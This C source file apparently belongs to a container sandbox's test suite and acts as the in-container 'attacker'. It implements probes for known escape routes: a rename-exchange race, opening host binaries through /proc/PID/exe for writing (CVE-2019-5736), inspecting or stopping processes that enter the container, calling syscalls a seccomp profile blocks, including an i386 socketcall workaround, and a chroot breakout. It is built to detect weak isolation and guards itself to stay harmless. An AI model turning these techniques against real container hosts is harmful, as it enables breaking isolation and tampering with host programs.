/* What an attacker brings along, as one static program; see the tests that start it.
 *
 *   exchange A B SECONDS   swap two names as fast as possible: a race against whoever walks there
 *   overwrite SECONDS      look for programs of the host in /proc/PID/exe, and open them for writing (CVE-2019-5736)
 *   look SECONDS           tell what can be reached through the processes that come by (CVE-2016-9962)
 *   stop SECONDS           the same of processes it stops as soon as they are there, with their rights and namespaces
 *   hold SECONDS           and they stay stopped
 *   calls                  what Docker's seccomp profile refuses, one "name errno" a line; and what i386's way round does
 *   climb                  chroot deeper with the old directory at hand, and from there up as far as it goes
 *   abstract NAME          what an abstract unix socket answers, or why it does not
 *
 * It does nothing but `exchange` unless it is pid 1: the first process of a container, never one of the host. And no
 * call of `calls` has arguments with which it could change anything, whoever lets it through. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int exchange(const char *a, const char *b, double seconds) {
    for (double end = now() + seconds; now() < end;)
        for (int i = 0; i < 200; i++) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    return 0;
}

/* Each word once: the same thing is seen thousands of times. */
static void tell(const char *text) {
    static char seen[256][300];
    for (int i = 0; i < 256; i++) {
        if (strncmp(seen[i], text, 299) == 0) return;
        if (!*seen[i]) {
            snprintf(seen[i], 300, "%.299s", text);
            printf("%s\n", text);
            fflush(stdout);
            return;
        }
    }
}

static void try_to_write(int pid) {
    char path[64], target[256], line[400];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0) return;
    target[length] = 0;
    if (strstr(target, "attacker") || strstr(target, "busybox")) return;
    int fd = open(path, O_PATH); /* keeps the file; its process may end meanwhile, and then it is not busy any more */
    if (fd < 0) return;
    snprintf(line, sizeof line, "saw %.256s", target);
    tell(line);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (double end = now() + 0.3; now() < end;) {
        int writing_fd = open(path, O_WRONLY);
        if (writing_fd < 0 && errno == ETXTBSY) continue;
        if (writing_fd >= 0) snprintf(line, sizeof line, "COULD WRITE %.256s", target); /* and leaves it at that */
        else snprintf(line, sizeof line, "refused %d", errno);
        tell(line);
        if (writing_fd >= 0) close(writing_fd);
        break;
    }
    close(fd);
}

/* Whatever is behind a link of /proc/PID: its kind, device and inode, for the test to compare. */
static void look_behind(int pid, const char *name) {
    char path[300], target[200] = "", line[600];
    struct stat status;
    snprintf(path, sizeof path, "/proc/%d/%.200s", pid, name);
    if (readlink(path, target, sizeof target - 1) <= 0 || stat(path, &status) < 0) return;
    const char *kind = S_ISDIR(status.st_mode) ? "dir" : S_ISREG(status.st_mode) ? "file" : "other";
    snprintf(line, sizeof line, "%s %s %lu:%lu %.200s", strchr(name, '/') ? "fd" : name, kind,
             (unsigned long)status.st_dev, (unsigned long)status.st_ino, target);
    tell(line);
}

static void look(int pid) {
    char path[64], name[280];
    look_behind(pid, "cwd");
    look_behind(pid, "root");
    look_behind(pid, "exe");
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        snprintf(name, sizeof name, "fd/%s", entry->d_name);
        if (*entry->d_name != '.') look_behind(pid, name);
    }
    if (directory) closedir(directory);
}

/* What a process that is stopped has and we have not: namespaces, and in our user namespace capabilities. And how many
 * descriptors it has. */
static void look_at_rights(int pid) {
    static const char *const KINDS[] = {"user", "mnt", "net", "ipc", "uts", "cgroup", "pid", "time"};
    char path[64], own[64], theirs[64], line[256];
    int foreign = 0, count = 0;
    for (size_t i = 0; i < sizeof KINDS / sizeof *KINDS; i++) {
        memset(own, 0, sizeof own);
        memset(theirs, 0, sizeof theirs);
        snprintf(path, sizeof path, "/proc/self/ns/%s", KINDS[i]);
        if (readlink(path, own, sizeof own - 1) < 0) continue;
        snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, KINDS[i]);
        if (readlink(path, theirs, sizeof theirs - 1) < 0 || strcmp(own, theirs) == 0) continue;
        if (i == 0) foreign = 1;
        snprintf(line, sizeof line, "namespace %s", theirs);
        tell(line);
    }
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "r");
    while (status && !foreign && fgets(line, sizeof line, status))
        if (strncmp(line, "CapPrm:", 7) == 0 || strncmp(line, "CapBnd:", 7) == 0) {
            line[strcspn(line, "\n")] = 0;
            tell(line);
        }
    if (status) fclose(status);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) count += *entry->d_name != '.';
    if (directory) closedir(directory);
    snprintf(line, sizeof line, "descriptors %d", count);
    tell(line);
}

/* Pids are given out one after the other, so the next ones are known: each is stopped in the moment it is there. */
static void stop_and_look(double seconds, int go_on) {
    int last = 1;
    for (double end = now() + seconds; now() < end;)
        for (int pid = last + 1; pid < last + 8; pid++) {
            if (kill(pid, SIGSTOP) < 0) continue;
            tell("stopped");
            look(pid);
            look_at_rights(pid);
            if (go_on) kill(pid, SIGCONT);
            last = pid;
        }
}

static void every_process(double seconds, void (*act)(int)) {
    for (double end = now() + seconds; now() < end;) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        while (directory && (entry = readdir(directory))) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != getpid()) act(pid);
        }
        if (directory) closedir(directory);
    }
}

static void result(const char *name, long value) { printf("%s %d\n", name, value < 0 ? errno : 0); }

#ifdef __x86_64__
static long int80(long number, long first, long second, long third) {
    long value;
    __asm__ volatile("int $0x80"
                     : "=a"(value)
                     : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    if (value >= 0) return value;
    errno = (int)-value;
    return -1;
}

/* i386's socketcall(SYS_SOCKET), whose arguments are in memory. A kernel without 32-bit programs ends the child. */
static void socketcalls(void) {
    int status = 0;
    pid_t child = fork();
    if (child == 0) _exit(int80(20, 0, 0, 0) < 0);
    unsigned *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (waitpid(child, &status, 0) != child || status || arguments == MAP_FAILED) return;
    const unsigned wanted[][3] = {{38, SOCK_SEQPACKET, 0}, {40, SOCK_STREAM, 0}};
    for (int i = 0; i < 2; i++) {
        memcpy(arguments, wanted[i], sizeof wanted[i]);
        result(i ? "socketcall_vsock" : "socketcall_alg", int80(102, 1, (long)arguments, 0));
        result(i ? "socketcall_vsock_high" : "socketcall_alg_high", int80(102, 1L << 32 | 1, (long)arguments, 0));
    }
    result("i386_socket_alg", int80(359, 38, SOCK_SEQPACKET, 0));
    result("i386_socket_vsock", int80(359, 40, SOCK_STREAM, 0));
}
#else
static void socketcalls(void) {}
#endif

/* The profile is asked before the arguments are looked at, so all of these are wrong ones. */
static void calls(void) {
#define CALL(name, ...) result(#name, syscall(SYS_##name, __VA_ARGS__))
    char *bad = (char *)1;
    CALL(acct, bad);
    CALL(add_key, bad, bad, bad, 1, 0);
    CALL(bpf, 99, bad, 0);
    CALL(clock_settime, 99, bad);
    CALL(delete_module, bad, 0);
    CALL(finit_module, -1, bad, 0);
    CALL(fsmount, -1, 0, 0);
    CALL(fsopen, bad, 0);
    CALL(init_module, bad, 0, bad);
    CALL(io_uring_setup, 0, bad);
    CALL(kexec_load, 0, 0, bad, -1L);
    CALL(keyctl, 99, 0, 0);
    CALL(mount, bad, bad, bad, 0, bad);
    CALL(move_mount, -1, bad, -1, bad, 0);
    CALL(open_by_handle_at, -1, bad, 0);
    CALL(open_tree, -1, bad, 0);
    CALL(perf_event_open, bad, 0, -1, -1, 0);
    CALL(pivot_root, bad, bad);
    CALL(quotactl, 0, bad, 0, bad);
    CALL(reboot, 0, 0, 0, bad);
    CALL(request_key, bad, bad, bad, 0);
    CALL(setns, -1, 0);
    CALL(swapon, bad, 0);
    CALL(umount2, bad, 0);
    CALL(unshare, CLONE_NEWUSER | CLONE_THREAD);
    CALL(userfaultfd, -1);
    CALL(clone3, bad, 0);
    result("clone_newuser", syscall(SYS_clone, CLONE_NEWUSER | CLONE_FS | SIGCHLD, 0, 0, 0, 0));
    result("af_alg", socket(38, -1, 0));
    result("af_vsock", socket(40, -1, 0));
    socketcalls();
}

static void ask(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int length = snprintf(to.sun_path + 1, sizeof to.sun_path - 1, "%s", name);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    char answer[64] = "";
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, size) < 0) printf("%s\n", strerror(errno));
    else if (read(fd, answer, sizeof answer - 1) > 0) printf("%s", answer);
}

/* Out of a chroot, for who may chroot. Out of a root that was pivoted to there is nowhere to go. */
static void climb(void) {
    struct stat here, above;
    mkdir("/deeper", 0700);
    if (chroot("/deeper") < 0) return perror("chroot");
    do {
        stat(".", &here);
        if (chdir("..") < 0 || stat(".", &above) < 0) return perror("..");
    } while (here.st_dev != above.st_dev || here.st_ino != above.st_ino);
    if (chroot(".") < 0) return perror("chroot");
    tell(access("/run/pyrun-attacks", F_OK) == 0 ? "OUTSIDE" : "inside");
    pause();
}

int main(int argc, char **argv) {
    double seconds = argc > 2 ? atof(argv[argc - 1]) : 0;
    if (argc == 5 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3], seconds);
    if (getpid() != 1) return 64;
    if (argc == 3 && strcmp(argv[1], "overwrite") == 0) every_process(seconds, try_to_write);
    else if (argc == 3 && strcmp(argv[1], "look") == 0) every_process(seconds, look);
    else if (argc == 3 && strcmp(argv[1], "stop") == 0) stop_and_look(seconds, 1);
    else if (argc == 3 && strcmp(argv[1], "hold") == 0) stop_and_look(seconds, 0);
    else if (argc == 2 && strcmp(argv[1], "calls") == 0) calls();
    else if (argc == 2 && strcmp(argv[1], "climb") == 0) climb();
    else if (argc == 3 && strcmp(argv[1], "abstract") == 0) ask(argv[2]);
    else return 64;
    return 0;
}
